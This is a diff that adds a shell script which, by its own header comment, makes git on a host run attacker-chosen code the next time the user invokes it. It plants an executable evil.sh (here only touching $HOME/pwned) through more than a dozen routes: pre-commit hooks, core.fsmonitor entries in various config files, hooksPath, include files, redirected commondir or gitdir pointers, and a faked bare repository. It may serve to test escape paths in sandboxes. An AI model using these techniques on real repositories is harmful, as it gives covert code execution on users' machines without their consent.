@@ -1,0 +1,54 @@
+# Makes git on the host run something of ours the next time the user calls it. $1 says through which door.
+planted() { printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >"$1" && chmod 755 "$1"; }
+monitor() { printf '[core]\n\tfsmonitor = %s/evil.sh\n' "$PWD"; }
+planted evil.sh
+case $1 in
+hook) planted .git/hooks/pre-commit ;;
+config) monitor >>.git/config ;;
+commondir)
+    # git then reads settings, hooks, objects and refs from there.
+    cp -r .git evil
+    rm -f evil/commondir
+    monitor >>evil/config
+    echo ../evil >.git/commondir
+    ;;
+config.worktree) monitor >>.git/config.worktree ;;
+module) monitor >>.git/modules/sub/config ;;
+module-hook) planted .git/modules/sub/hooks/pre-commit ;;
+hookspath)
+    planted tools/hooks/pre-commit
+    planted tools/hooks/post-commit
+    ;;
+hookspath-moved)
+    mv tools tools.aside
+    mkdir -p tools/hooks
+    planted tools/hooks/pre-commit
+    ;;
+include) monitor >>team.gitconfig ;;
+include-moved)
+    mv team.gitconfig team.aside
+    monitor >team.gitconfig
+    ;;
+worktree-hook) planted "$(git rev-parse --git-common-dir)/hooks/pre-commit" ;;
+worktree-config) monitor >>"$(git rev-parse --git-dir)/config.worktree" ;;
+worktree-commondir)
+    cp -r "$(git rev-parse --git-common-dir)" evil
+    monitor >>evil/config
+    echo "$PWD/evil" >"$(git rev-parse --git-dir)/commondir"
+    ;;
+worktree-pointer)
+    cp -r "$(git rev-parse --git-common-dir)" evil
+    monitor >>evil/config
+    echo "gitdir: $PWD/evil" >.git
+    ;;
+bare)
+    # Without HEAD, .git is no repository, and the folder around it is looked at instead.
+    rm -f .git/HEAD || mv .git/HEAD .git/HEAD.aside
+    mkdir -p objects refs/heads
+    echo 'ref: refs/heads/main' >HEAD
+    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n' "$PWD" >config
+    monitor >>config
+    ;;
+*) exit 1 ;;
+esac
+echo done
